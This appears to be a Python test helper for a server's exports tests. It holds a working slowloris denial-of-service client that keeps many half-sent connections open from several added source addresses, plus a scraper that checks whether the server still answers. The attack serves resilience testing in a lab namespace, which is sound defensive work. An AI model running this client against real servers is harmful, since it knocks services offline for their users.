#!/usr/bin/env python3
"""http_clients: hostile and patient HTTP clients for the exports tests.

Run inside a lab namespace (Host.spawn / Host.run of tests/lib/netlab.py);
standard library only.

  slowloris --target IP --port N --sources A,B,... --per-source K
            [--mode slow|idle] [--interval S] [--status FILE]
      Keeps K connections open from each source address.  "slow" sends a
      GET request one header byte every --interval seconds and never ends
      it; "idle" connects and sends nothing.  A connection the server
      closes is counted and opened again a second later, as a real
      slowloris does.  Every second FILE gets {"open", "connects",
      "closed", "max_open", "answered"} as JSON ("answered": connections
      that got any bytes back, e.g. a 408).  Runs until killed.

  scrape --url URL[,URL...] --period S --seconds S [--timeout S] [--body]
      GETs each URL every --period seconds for --seconds (at least once),
      and prints one JSON object: {"results": [{"url", "status",
      "seconds", "error", "bytes"}, ...]} (with --body also "body").  A
      request that fails or takes longer than --timeout is an "error".
"""

import argparse
import errno
import json
import os
import selectors
import socket
import sys
import time
import urllib.request

RECONNECT_S = 1.0
LAN_IF = "eth0"  # netlab.LAN_IF
REQUEST = (b"GET /metrics HTTP/1.1\r\nHost: pilotlight\r\n"
           b"User-Agent: slowloris\r\nX-Padding: " + b"a" * 4000)


class Conn:
    def __init__(self, src):
        self.src = src
        self.sock = None
        self.sent = 0
        self.next_s = 0.0       # next byte (slow) or reconnect
        self.up = False


def add_attackers(lab, first=101, hosts=2, per_host=10):
    out = []
    for i in range(hosts):
        addrs = ["10.77.0.%d" % (first + per_host * i + j)
                 for j in range(per_host)]
        h = lab.host("bad%d" % i, addrs[0] + "/24", ipv6=False)
        for a in addrs[1:]:
            h.run(["ip", "addr", "add", a + "/24", "dev", LAN_IF])
        out.append((h, addrs))
    return out


def slowloris(a):
    sel = selectors.DefaultSelector()
    conns = [Conn(src) for src in a.sources.split(",")
             for _ in range(a.per_source)]
    st = {"open": 0, "connects": 0, "closed": 0, "max_open": 0,
          "answered": 0}
    family = socket.AF_INET6 if ":" in a.target else socket.AF_INET

    def close(c, by_server):
        sel.unregister(c.sock)
        c.sock.close()
        c.sock = None
        if c.up:
            st["open"] -= 1
            st["closed"] += by_server
        c.up = False
        c.next_s = time.monotonic() + RECONNECT_S

    def connect(c):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((c.src, 0))
        err = s.connect_ex((a.target, a.port))
        if err not in (0, errno.EINPROGRESS):
            s.close()
            c.next_s = time.monotonic() + RECONNECT_S
            return
        c.sock, c.sent, c.up = s, 0, False
        sel.register(s, selectors.EVENT_WRITE, c)
        st["connects"] += 1

    next_status = 0.0
    while True:
        now = time.monotonic()
        for c in conns:
            if c.sock is None and now >= c.next_s:
                connect(c)
            elif c.up and a.mode == "slow" and now >= c.next_s and \
                    c.sent < len(REQUEST):
                try:
                    c.sent += c.sock.send(REQUEST[c.sent:c.sent + 1])
                except OSError:
                    close(c, True)
                    continue
                c.next_s = now + a.interval
        for key, ev in sel.select(timeout=0.05):
            c = key.data
            if not c.up:
                if c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    close(c, False)
                    continue
                c.up = True
                c.next_s = time.monotonic()
                st["open"] += 1
                st["max_open"] = max(st["max_open"], st["open"])
                sel.modify(c.sock, selectors.EVENT_READ, c)
                continue
            try:
                data = c.sock.recv(4096)
            except OSError:
                data = b""
            if data:
                st["answered"] += 1
            close(c, True)
        if a.status and now >= next_status:
            tmp = a.status + ".tmp"
            with open(tmp, "w") as f:
                json.dump(st, f)
            os.replace(tmp, a.status)
            next_status = now + 1.0


def scrape(a):
    urls = a.url.split(",")
    results = []
    end = time.monotonic() + a.seconds
    next_t = time.monotonic()
    while next_t < end:
        for url in urls:
            t0 = time.monotonic()
            r = {"url": url, "status": None, "error": None, "bytes": 0}
            try:
                with urllib.request.urlopen(url, timeout=a.timeout) as resp:
                    r["status"] = resp.status
                    body = resp.read()
                    r["bytes"] = len(body)
                    if a.body:
                        r["body"] = body.decode(errors="replace")
            except Exception as e:  # noqa: BLE001 - every failure counts
                r["error"] = "%s: %s" % (type(e).__name__, e)
            r["seconds"] = time.monotonic() - t0
            results.append(r)
        next_t += a.period
        time.sleep(max(0.0, next_t - time.monotonic()))
    print(json.dumps({"results": results}))


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("--target", required=True)
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--sources", required=True)
    s.add_argument("--per-source", type=int, default=10)
    s.add_argument("--mode", choices=("slow", "idle"), default="slow")
    s.add_argument("--interval", type=float, default=1.0)
    s.add_argument("--status")
    s = sub.add_parser("scrape")
    s.add_argument("--url", required=True)
    s.add_argument("--period", type=float, default=1.0)
    s.add_argument("--seconds", type=float, default=40.0)
    s.add_argument("--timeout", type=float, default=5.0)
    s.add_argument("--body", action="store_true")
    a = ap.parse_args()
    if a.cmd == "slowloris":
        slowloris(a)
    else:
        scrape(a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
